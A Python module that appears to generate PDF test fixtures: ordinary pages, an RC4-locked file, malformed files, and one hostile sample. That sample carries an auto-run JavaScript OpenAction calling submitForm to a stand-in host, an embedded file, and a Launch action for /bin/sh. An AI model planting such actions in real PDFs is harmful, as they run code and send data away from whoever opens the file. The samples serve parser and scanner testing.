"""PDFs written byte by byte: good ones, and what somebody may send to hurt."""

import hashlib
import zlib
from collections.abc import Iterable

AUTHOR = "CANARY-PDF-7731"
_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")
_RED = b"1 0 0 rg 0 0 300 842 re f"
_CATALOG, _TREE = 1, 2


def pdf(
    pages: int = 1,
    *,
    size: tuple[float, float] = (595, 842),
    drawing: bytes = _RED,
    catalog: bytes = b"",
    page: bytes = b"",
) -> bytes:
    """Pages whose left half is red; names of an author stand in it."""
    kids = b" ".join(b"%d 0 R" % (5 + number) for number in range(pages))
    packed = zlib.compress(drawing)
    one = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %g %g]/Contents 4 0 R%s>>" % (*size, page)
    return of_objects(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
            b"<</Author(%s)/Title(%s)>>" % (AUTHOR.encode(), AUTHOR.encode()),
            b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed),
            *[one] * pages,
        ],
        trailer=b"/Info 3 0 R",
    )


def of_objects(objects: Iterable[bytes], trailer: bytes = b"") -> bytes:
    """A file of these objects, with its table."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer<</Size %d/Root 1 0 R%s>>\n" % (len(places) + 1, trailer)
    return bytes(made + b"startxref\n%d\n%%%%EOF\n" % start)


def with_script() -> bytes:
    """A script when it opens, one that sends it away, a link and a file inside."""
    actions = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://x'\\))>>"
    inside = b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a)/EF<</F 4 0 R>>>>]>>>>"
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(/bin/sh)>>>>]"
    return pdf(catalog=actions + inside, page=link)


def locked(password: bytes = b"geheim") -> bytes:
    """What only a password opens, by the oldest of the ways."""
    key = (password + _PAD)[:32]
    owner, mark, rights = (
        bytes(range(32)),
        b"0123456789abcdef",
        (-44).to_bytes(4, "little", signed=True),
    )
    secret = hashlib.md5(key + owner + rights + mark).digest()[:5]
    told = b"<</Filter/Standard/V 1/R 2/P -44/O<%s>/U<%s>>>" % (
        owner.hex().encode(),
        _stirred(secret, _PAD).hex().encode(),
    )
    trailer = b"/Encrypt %s/ID[<%s><%s>]" % (told, mark.hex().encode(), mark.hex().encode())
    return pdf().replace(b"/Info 3 0 R", trailer)


def _stirred(key: bytes, text: bytes) -> bytes:
    """RC4, which nobody should use for anything else."""
    box, at = list(range(256)), 0
    for number in range(256):
        at = (at + box[number] + key[number % len(key)]) % 256
        box[number], box[at] = box[at], box[number]
    made, one, two = bytearray(), 0, 0
    for byte in text:
        one = (one + 1) % 256
        two = (two + box[one]) % 256
        box[one], box[two] = box[two], box[one]
        made.append(byte ^ box[(box[one] + box[two]) % 256])
    return bytes(made)


# What gets a sentence instead of pages.
BROKEN: dict[str, bytes] = {
    "cut off": pdf(3)[:300],
    "nothing in it": b"%PDF-1.7\n",
    "noise": b"%PDF-1.7\n" + bytes(range(256)) * 40,
    "a tree that is its own child": of_objects(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 9>>"]
    ),
}
